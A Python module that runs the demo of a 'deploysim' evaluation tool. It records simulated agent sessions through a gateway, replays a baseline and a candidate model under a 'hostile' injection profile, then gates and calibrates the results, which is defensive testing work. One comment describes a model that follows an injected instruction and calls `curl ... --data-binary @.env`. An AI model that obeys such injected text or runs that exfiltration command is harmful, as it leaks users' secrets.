"""The demo pipeline: record a simulated production world through the real gateway, replay a
baseline and a candidate under the `hostile` profile, grade, gate, calibrate, report.

Every step runs the real `deploysim` command a user would run (the gateway and the replays as
subprocesses, so they use their own cores), and the summary prints those commands.
"""

from __future__ import annotations

import asyncio
import contextlib
import io
import json
import logging
import multiprocessing
import os
import shlex
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ProcessPoolExecutor
from dataclasses import dataclass, field
from importlib import resources
from pathlib import Path
from typing import Any

from deploysim.demo.agent import Agent, Endpoints
from deploysim.demo.errors import DemoError
from deploysim.demo.policies import CANDIDATE, DEPLOYED
from deploysim.demo.record_process import deploysim_command, free_port, record_command, recording
from deploysim.demo.server_process import ServerProcess
from deploysim.demo.users import session_spec
from runtime.event_loop import run as aio_run

PROFILE = "hostile"
DEPLOYMENT_SEED = 1000
"""Added to the seed for the candidate's deployment window: other users than production's."""
AGENT_CONCURRENCY = 16
AGENT_PROCESSES = 2


@dataclass
class DemoResult:
    """What the demo produced, for the summary and the end-to-end test."""

    out: Path
    sessions: int = 0
    recorded: dict[str, Any] = field(default_factory=dict)
    gate: dict[str, Any] = field(default_factory=dict)
    gate_exit: int = -1
    calibration: dict[str, Any] = field(default_factory=dict)
    timings: dict[str, float] = field(default_factory=dict)
    commands: list[str] = field(default_factory=list)
    seed: int = 7

    def rerun_commands(self, port: int = 8777) -> list[str]:
        """Commands that work after the demo ended: serve its models, write a deploysim.toml
        for its corpus, run the pipeline from it (the same decision as the demo's gate)."""
        rerun = self.out / "rerun"
        return [shlex.join(["deploysim", "demo", "--serve-models", "--port", str(port),
                            "--seed", str(self.seed)]) + " &",
                shlex.join(["deploysim", "init", "--corpus", str(self.production),
                            "--baseline-model", DEPLOYED.name, "--candidate-model",
                            CANDIDATE.name, "--base-url", f"http://127.0.0.1:{port}/v1",
                            "--profile", PROFILE, "--seed", str(self.seed), "--miss",
                            "continue", "--out", str(rerun), "--audit",
                            str(rerun / "audit.sqlite")]),
                "deploysim run"]

    @property
    def production(self) -> Path:
        return self.out / "production"

    @property
    def baseline(self) -> Path:
        return self.out / "runs" / "baseline"

    @property
    def candidate(self) -> Path:
        return self.out / "runs" / "candidate"

    @property
    def baseline_unperturbed(self) -> Path:
        return self.out / "runs" / "baseline-unperturbed"

    @property
    def deployment(self) -> Path:
        """What the candidate then did in production (the calibration's truth)."""
        return self.out / "deployment"

    @property
    def candidate_unperturbed(self) -> Path:
        return self.out / "runs" / "candidate-unperturbed"

    @property
    def report(self) -> Path:
        return self.out / "report.html"

    @property
    def audit(self) -> Path:
        return self.out / "audit.sqlite"


def example_policy() -> Path:
    return Path(str(resources.files("grader").joinpath("example_policy.toml")))


def _quiet_logs() -> None:
    for name in ("httpx2", "httpx", "mcp", "uvicorn", "uvicorn.error", "openai"):
        logging.getLogger(name).setLevel(logging.ERROR)


def play_sessions(ep: Endpoints, seed: int, indices: list[int]) -> int:
    """Play the given simulated users' sessions (in a worker process); returns how many."""
    _quiet_logs()

    async def main() -> int:
        agent = Agent(ep)
        sem = asyncio.Semaphore(AGENT_CONCURRENCY)

        async def one(i: int) -> None:
            async with sem:
                await agent.run_session(session_spec(seed, i))

        try:
            await asyncio.gather(*(one(i) for i in indices))
        finally:
            await agent.close()
        return len(indices)

    return aio_run(main())


class World(ServerProcess):
    """The simulated world (`python -m deploysim.demo.world`) running in its own process."""

    def __init__(self, log: Path, seed: int | None = None) -> None:
        argv = [sys.executable, "-m", "deploysim.demo.world"]
        super().__init__(argv + ([] if seed is None else ["--seed", str(seed)]), log)
        self.seed = seed
        """Seeds the models' sampling (None: deterministic models)."""


async def _record(res: DemoResult, world: World, n: int, seed: int,
                  say: Callable[[str], None], model: str = DEPLOYED.name,
                  corpus: Path | None = None) -> None:
    port = free_port()
    corpus = corpus or res.production
    cmd = record_command(port, corpus, {"llm": world.urls["model"], "tools": world.urls["mcp"],
                                        "crm": world.urls["crm"]})
    res.commands.append(shlex.join(["deploysim", *cmd[len(deploysim_command()):]]))
    log = res.out / "logs" / ("record.log" if corpus == res.production
                              else f"record-{corpus.name}.log")
    async with recording(cmd, port, log) as gw:
        say(f"gateway {gw} fronts the simulated model, the MCP workspace server and the CRM")
        ep = Endpoints(f"{gw}/llm/v1", f"{gw}/tools", f"{gw}/crm", model=model)
        # The official SDKs cost more CPU than everything else here: the agents get two
        # processes so the fleet, not one event loop, sets the pace.
        loop = asyncio.get_running_loop()
        ctx = multiprocessing.get_context("spawn")
        with ProcessPoolExecutor(AGENT_PROCESSES, mp_context=ctx) as pool:
            await asyncio.gather(*(
                loop.run_in_executor(pool, play_sessions, ep, seed,
                                     list(range(k, n, AGENT_PROCESSES)))
                for k in range(AGENT_PROCESSES)))


def _replay_cmd(res: DemoResult, out: Path, model: str, profile: str, base_url: str,
                seed: int) -> list[str]:
    # `--miss continue`: a model that follows an injected instruction calls what production
    # never called (`curl ... --data-binary @.env`); no recording can answer it, and no
    # fallback may invent an answer. The model sees the tool's own error and the turn goes
    # on, so the call it made is graded; the misses are counted in each replay's summary.
    return [*deploysim_command(), "replay", str(res.production), "--model", model, "--base-url",
            base_url, "--api", "openai-chat", "--mode", "prefix", "--profile", profile,
            "--seed", str(seed), "--concurrency", "32", "--miss", "continue",
            "--out", str(out)]


async def _replay(res: DemoResult, world: World, seed: int, say: Callable[[str], None]) -> None:
    procs = []
    # The gate compares baseline and candidate under the hostile profile; calibration needs
    # the deployed model replayed in production's own environment (no perturbations).
    for name, out, t, profile in (("baseline", res.baseline, DEPLOYED, PROFILE),
                                  ("candidate", res.candidate, CANDIDATE, PROFILE),
                                  ("baseline-unperturbed", res.baseline_unperturbed, DEPLOYED,
                                   "none"),
                                  ("candidate-unperturbed", res.candidate_unperturbed,
                                   CANDIDATE, "none")):
        cmd = _replay_cmd(res, out, t.name, profile, world.urls["model"] + "/v1", seed)
        res.commands.append(shlex.join(["deploysim", *cmd[len(deploysim_command()):]]))
        log = res.out / "logs" / f"replay-{name}.log"
        with open(log, "wb") as logf:
            procs.append((name, log, await asyncio.create_subprocess_exec(
                *cmd, stdout=logf, stderr=subprocess.STDOUT)))
    for name, log, proc in procs:
        code = await proc.wait()
        if code != 0:
            raise DemoError(f"`deploysim replay` of the {name} failed (exit {code}); "
                            f"see {log}.")
    say(f"replayed both models on every recorded turn under the `{PROFILE}` profile, and once "
        "more unperturbed (for calibration)")


def _cli_json(args: list[str]) -> tuple[int, Any]:
    """Run a deploysim command in-process and parse its --json output."""
    from deploysim.cli import run

    buf = io.StringIO()
    with contextlib.redirect_stdout(buf):
        code = run(args)
    text = buf.getvalue()
    try:
        return code, json.loads(text)
    except json.JSONDecodeError:
        raise DemoError(f"`deploysim {' '.join(args[:1])}` printed no JSON (exit {code}): "
                        f"{text[-300:]}") from None


@contextlib.contextmanager
def without_project_config() -> Iterator[None]:
    """Every command run inside (in this process or as a subprocess) ignores a deploysim.toml
    in the working folder: a user's project defaults must not change a demo."""
    saved = os.environ.get("DEPLOYSIM_CONFIG")
    os.environ["DEPLOYSIM_CONFIG"] = "none"
    try:
        yield
    finally:
        if saved is None:
            os.environ.pop("DEPLOYSIM_CONFIG", None)
        else:
            os.environ["DEPLOYSIM_CONFIG"] = saved


def run_demo(out: Path, sessions: int = 200, seed: int = 7,
             say: Callable[[str], None] = print) -> DemoResult:
    """Run the whole demo into `out` and return what it produced."""
    with without_project_config():
        return _run_demo(out, sessions, seed, say)


def prepare(out: Path, seed: int) -> None:
    """What every demo does first: quiet third-party logs, a redaction key of its own, and a
    refusal to write into a folder that already holds something."""
    _quiet_logs()
    os.environ.setdefault("DEPLOYSIM_REDACTION_KEY", f"deploysim-demo-key-{seed}")
    if out.exists() and any(out.iterdir()):
        raise DemoError(f"{out} is not empty; give a new --out folder (or delete it) so the demo "
                        "never mixes runs.")


def _run_demo(out: Path, sessions: int, seed: int, say: Callable[[str], None]) -> DemoResult:
    prepare(out, seed)
    res = DemoResult(out=out, seed=seed)
    out.mkdir(parents=True, exist_ok=True)

    world = World(out / "logs" / "world.log", seed)
    with world:
        t = time.perf_counter()
        aio_run(_record(res, world, sessions, seed, say))
        res.timings["record"] = time.perf_counter() - t
        say(f"{inspect_production(res)} into {res.production}")
        # calibration's truth: the candidate deployed to other users, who react to it
        t = time.perf_counter()
        aio_run(_record(res, world, sessions, seed + DEPLOYMENT_SEED, lambda _: None,
                        model=CANDIDATE.name, corpus=res.deployment))
        res.timings["deployment"] = time.perf_counter() - t
        say(f"recorded the candidate deployed to {sessions} other users into {res.deployment} "
            "(what the simulation is calibrated against)")
        t = time.perf_counter()
        aio_run(_replay(res, world, seed, say))
        res.timings["replay"] = time.perf_counter() - t

    gate_step(res)

    t = time.perf_counter()
    # each model's simulated rates (replayed unperturbed on production's prefixes) against what
    # it did in production; two models in release order also score the direction of change
    cal_args = ["calibrate", "--observed", str(res.production), "--simulated",
                str(res.baseline_unperturbed), "--observed", str(res.deployment),
                "--simulated", str(res.candidate_unperturbed), "--rubric", "default", "--json"]
    res.commands.append(shlex.join(["deploysim", *cal_args]))
    _code, res.calibration = _cli_json(cal_args)
    (out / "calibration.json").write_text(json.dumps(res.calibration, indent=2) + "\n")
    (out / "gate.json").write_text(json.dumps(res.gate, indent=2) + "\n")
    res.timings["calibrate"] = time.perf_counter() - t
    return res


def inspect_production(res: DemoResult) -> str:
    """Read back what was recorded into `res` (as `deploysim inspect`); says how much."""
    _code, res.recorded = _cli_json(["inspect", str(res.production), "--json"])
    res.sessions = res.recorded.get("sessions", 0)
    return (f"recorded {res.sessions} sessions, {res.recorded.get('turns')} turns, "
            f"{res.recorded.get('tool_calls')} tool calls")


def gate_step(res: DemoResult) -> None:
    """Gate the candidate's replay against the baseline's with the example policy, as the
    user would (`deploysim gate`, the command kept in `res.commands`)."""
    t = time.perf_counter()
    gate_args = ["gate", "--baseline", str(res.baseline), "--candidate", str(res.candidate),
                 "--policy", str(example_policy()), "--report", str(res.report),
                 "--audit", str(res.audit), "--json"]
    res.commands.append(shlex.join(["deploysim", *gate_args]))
    res.gate_exit, res.gate = _cli_json(gate_args)
    res.timings["gate"] = time.perf_counter() - t


def serve_models(port: int, seed: int, ready: Callable[[str], None]) -> None:
    """The demo's scripted models (sim-deployed, sim-candidate) alone, on 127.0.0.1:`port`,
    sampling with `seed`, until interrupted: what the demo's replays talked to, for
    `deploysim init && deploysim run` on the demo's corpus after the demo ended. Tools need no
    server: replays answer them from the recording. The models sample, so the rates differ a
    little from the demo's; the decision does not."""
    from deploysim.demo.policies import world_policy
    from replayer.testing.fake_model import FakeModelServer

    async def main() -> None:
        # as in deploysim/demo/world.py: the same policy and stream deltas
        model = FakeModelServer(world_policy(seed), chunk=32, port=port, log_requests=False)
        try:
            await model.start()
        except OSError as exc:
            raise DemoError(f"Cannot listen on 127.0.0.1:{port} ({exc.strerror or exc}); give "
                            "a free port with --port.") from exc
        ready(model.openai_url)
        try:
            await asyncio.Event().wait()
        finally:
            await model.stop()

    _quiet_logs()
    aio_run(main())
